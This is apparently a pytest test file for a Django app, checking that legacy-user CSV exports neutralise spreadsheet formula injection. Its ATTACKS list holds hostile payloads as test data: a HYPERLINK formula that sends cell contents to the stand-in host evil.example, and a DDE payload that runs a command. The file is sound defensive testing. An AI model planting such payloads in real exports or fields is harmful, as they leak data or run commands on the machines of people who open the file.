"""Exports are safe to open in a spreadsheet: no cell an end user chose runs as a formula."""

import csv
import io

import pytest

from legacy_users.models import LegacyUser
from legacy_users.services.export import FORMULA_STARTS, HASH_FIELDS
from tests.conftest import run_command as run

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def spreadsheet_formulas(text: str, exact: tuple[str, ...] = ()) -> list[str]:
    """The cells a spreadsheet would evaluate when it opens this CSV: those whose first
    character starts a formula (Excel, LibreOffice and Google Sheets all read `=`, `+`, `-`,
    `@`; a leading tab or CR is dropped and what follows read). `exact` columns (hashes,
    data for a machine) are left out."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    skip = {i for i, name in enumerate(rows[0]) if name in exact}
    return [
        cell
        for row in rows
        for i, cell in enumerate(row)
        if i not in skip
        and cell.lstrip("\t\r")[:1] in ("=", "+", "-", "@")
        and not cell.startswith("'")
    ]


@pytest.fixture
def hostile_users(make_user):
    for i, attack in enumerate(ATTACKS):
        make_user(login=f"user{i}@example.com", first_name=attack, last_name=attack[::-1])
    make_user(login="=1+1@example.com", password="x")
    # A hash is exact data: it is never changed, so it still verifies after a round trip.
    make_user(login="hash@example.com", password_hash="+Zm9vYmFy", hash_format="sha256")


@pytest.mark.django_db
def test_export_command_neutralises_every_formula(hostile_users, tmp_path):
    target = tmp_path / "users.csv"

    run("export_legacy_users", output=str(target), include_hashes=True)

    text = target.open(newline="").read()
    assert spreadsheet_formulas(text, exact=HASH_FIELDS) == []
    assert spreadsheet_formulas(text) == ["+Zm9vYmFy"]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    names = {row["first_name"] for row in rows}
    assert {"'" + attack for attack in ATTACKS} <= names  # shown as text, nothing lost
    assert "'=1+1@example.com" in {row["login"] for row in rows}
    assert {row["password_hash"] for row in rows if row["login"] == "hash@example.com"} == {
        "+Zm9vYmFy"
    }
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.django_db
def test_admin_export_neutralises_every_formula(hostile_users, admin_client):
    response = admin_client.get("/admin/legacy_users/legacyuser/export.csv")

    text = b"".join(response.streaming_content).decode()
    assert spreadsheet_formulas(text) == []
    assert "'=cmd|' /C calc'!A0" in text


@pytest.mark.django_db
def test_finish_migration_export_neutralises_every_formula(hostile_users, tmp_path):
    target = tmp_path / "never.csv"

    run("okta_finish_migration", cutoff="2100-01-01", export=str(target))

    text = target.open(newline="").read()
    assert LegacyUser.objects.count() == len(ATTACKS) + 2
    assert spreadsheet_formulas(text) == []
    assert "'@SUM(1)" in text
